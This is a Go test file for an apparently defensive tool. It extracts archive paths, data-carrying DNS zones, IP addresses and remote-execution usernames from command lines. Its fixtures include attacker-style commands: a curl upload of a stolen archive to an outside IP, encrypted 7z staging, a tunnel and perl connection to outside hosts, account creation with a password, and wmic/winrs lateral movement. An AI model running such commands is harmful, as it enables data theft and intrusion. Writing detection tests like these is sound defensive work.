package trail

import (
	"bytes"
	"testing"
)

// TestPacks: an archive by the place that it has on the command line, whatever it and its packer are called.
func TestPacks(t *testing.T) {
	for line, want := range map[string]string{
		`7z a -pX -mhe C:\t\a.7z D:\x`:                                     `C:\t\a.7z`,
		`"C:\Program Files\7-Zip\7z.exe" a "C:\t\my files.7z" D:\x`:        `C:\t\my files.7z`,
		`C:\ProgramData\r.exe a -m5 -hpK C:\ProgramData\01.dat D:\pst\*`:   `C:\ProgramData\01.dat`,
		`tar -cJf /dev/shm/m.txz /opt/store`:                               `/dev/shm/m.txz`,
		`tar czf out.tgz /srv`:                                             `out.tgz`,
		`tar --create --file=/tmp/x.tar /srv`:                              `/tmp/x.tar`,
		`tar -xzf in.tgz`:                                                  ``,
		`tar -C /srv -cf /tmp/y.tar .`:                                     `/tmp/y.tar`,
		`zip -r -q /tmp/a.zip /srv`:                                        `/tmp/a.zip`,
		`gzip /var/www/b.sql`:                                              `/var/www/b.sql.gz`,
		`makecab C:\a.mdb C:\b.cab`:                                        `C:\b.cab`,
		`makecab /F list.ddf`:                                              ``,
		`powershell -c "Compress-Archive C:\a C:\b.zip"`:                   `C:\b.zip`,
		`powershell Compress-Archive -Path D:\a -DestinationPath D:\b.zip`: `D:\b.zip`,
		`net user a /add`:                                                  ``,
		`foo a b`:                                                          ``,
		`7z`:                                                               ``,
		``:                                                                 ``,
	} {
		base, _, _ := bytes.Cut([]byte(line), []byte{' '})
		if line != "" && line[0] == '"' {
			base = []byte("7z.exe")
		}
		if got := packs(baseName(base), []byte(line)); string(got) != want {
			t.Errorf("%s: %q, want %q", line, got, want)
		}
	}
}

func FuzzPacks(f *testing.F) {
	for _, s := range []string{`7z a x.7z y`, `tar -cf a b`, `tar --file=`, `Compress-Archive -Path`, `gzip`, `zip -`, `"`, `a "" b`} {
		f.Add(s, "tar")
		f.Add(s, "7z.exe")
	}
	f.Fuzz(func(t *testing.T, line, base string) {
		if got := packs([]byte(base), []byte(line)); len(got) > len(line)+8 {
			t.Errorf("%q made of %q", got, line)
		}
	})
}

// TestCarryingZone: names that may carry data, and the zone that they carry it to.
func TestCarryingZone(t *testing.T) {
	for name, want := range map[string]string{
		"d031b0da8911b0d1229bfea6e903.5eaa171a.ns1.pixel.example": "pixel.example",
		"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.t.firm.co.uk":   "firm.co.uk",
		"www.google.com": "",
		"b.a.9.8.7.6.5.0.4.0.0.0.3.0.0.0.2.0.0.0.1.0.0.0.8.b.d.ip6.arpa": "",
		"averyveryverylongsinglelabelwithoutanyzonebehindit":             "",
	} {
		if got := carryingZone([]byte(name)); string(got) != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
}

// TestMentionedAddresses: addresses, with ports or as somebody's host, are spoken of; versions are not.
func TestMentionedAddresses(t *testing.T) {
	for line, want := range map[string]string{
		`rpcsrv.exe -l 0 -r 198.51.100.20:53`:             "198.51.100.20",
		`ssh -i /tmp/.k deploy@10.33.6.2`:                 "10.33.6.2",
		`perl /tmp/x 203.0.113.241 443`:                   "203.0.113.241",
		`curl -F f=@C:\Windows\Temp\net.rar 203.0.113.15`: "203.0.113.15",
		`setup.exe /version 10.0.19041.1`:                 "",
		`setup.exe 1.2.3.0`:                               "",
	} {
		got := ""
		mentions([]byte(line), func(m mention) {
			if m.kind == Address {
				got = string(m.value)
			}
			if m.kind == Name {
				t.Errorf("%s: a name, %s", line, m.value)
			}
		})
		if got != want {
			t.Errorf("%s: %q, want %q", line, got, want)
		}
	}
}

// TestUnpackedFrom: the archive in whose temporary folder a path lies.
func TestUnpackedFrom(t *testing.T) {
	for path, want := range map[string]string{
		`c:\users\a\appdata\local\temp\temp1_note_211.zip\_\x.exe`: "note_211.zip",
		`c:\users\a\appdata\local\temp\temp1_note`:                 "",
		`c:\windows\temp\a.zip\x`:                                  "",
		`c:\temp_a.b\x`:                                            "",
	} {
		got, ok := unpackedFrom([]byte(path))
		if string(got) != want || ok != (want != "") {
			t.Errorf("%s: %q", path, got)
		}
	}
}

// TestAsUser: as whom a program of Windows acts elsewhere.
func TestAsUser(t *testing.T) {
	for line, want := range map[string]string{
		`net use \\h\c$ /user:DOM\svc-x Pa`:    "svc-x",
		`winrs -r:H -u:DOM\basis -p:x cmd`:     "basis",
		`schtasks /create /s H /u DOM\b /p x`:  "b",
		`net user IISSvc P@s5w0rd! /add`:       "",
		`wmic /node:h process call create cmd`: "",
	} {
		if got := asUser([]byte(line)); string(got) != want {
			t.Errorf("%s: %q, want %q", line, got, want)
		}
	}
}
